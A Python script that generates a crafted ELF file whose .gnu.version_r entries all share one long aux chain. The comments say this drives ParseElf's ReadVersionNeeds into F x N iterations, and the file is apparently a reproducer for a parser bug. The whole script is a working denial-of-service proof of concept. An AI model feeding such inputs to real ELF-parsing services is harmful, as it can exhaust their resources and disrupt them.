#!/usr/bin/env python3
# Writes an ELF file on which ParseElf (package/elf.cc, ReadVersionNeeds)
# runs F x N iterations: F .gnu.version_r file entries whose aux chains all
# point at one shared chain of N entries. Found by reading the code, not by
# the fuzzer (its inputs stay near 6 KB); see NOTES.
#
#   python3 make_verneed_blowup.py F N OUT     e.g. 4096 61440 big.elf (1 MiB)
import struct
import sys

F, N, out_path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
shstr = b"\0.shstrtab\0.dynstr\0.dynsym\0.gnu.version_r\0"
dynstr = b"\0x\0"
off_shstr = 64 + 56
off_dynstr = off_shstr + len(shstr)
off_dynsym = (off_dynstr + len(dynstr) + 7) & ~7
off_vn = off_dynsym + 24
chain = 16 * F
vn = b""
for i in range(F):  # Elf64_Verneed: version, cnt, file, aux, next
    vn += struct.pack("<HHIII", 1, 65535, 0, chain - 16 * i, 0 if i == F - 1 else 16)
for j in range(N):  # Elf64_Vernaux: hash, flags, other, name, next
    vn += struct.pack("<IHHII", 0, 0, 2, 1, 0 if j == N - 1 else 16)
off_sh = (off_vn + len(vn) + 7) & ~7
total = off_sh + 5 * 64
eh = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
eh += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, off_sh, 0, 64, 56, 1, 64, 5, 1)
ph = struct.pack("<IIQQQQQQ", 1, 4, 0, 0, 0, total, total, 0x1000)


def sh(name, typ, off, size, link=0, ent=0):
    return struct.pack("<IIQQQQIIQQ", name, typ, 0, 0, off, size, link, 0, 1, ent)


shdrs = (sh(0, 0, 0, 0) + sh(1, 3, off_shstr, len(shstr)) + sh(11, 3, off_dynstr, len(dynstr)) +
         sh(19, 11, off_dynsym, 24, 2, 24) + sh(27, 0x6FFFFFFE, off_vn, len(vn), 2))
out = bytearray(total)
out[0:64] = eh
out[64:120] = ph
out[off_shstr:off_shstr + len(shstr)] = shstr
out[off_dynstr:off_dynstr + len(dynstr)] = dynstr
out[off_vn:off_vn + len(vn)] = vn
out[off_sh:off_sh + len(shdrs)] = shdrs
open(out_path, "wb").write(out)
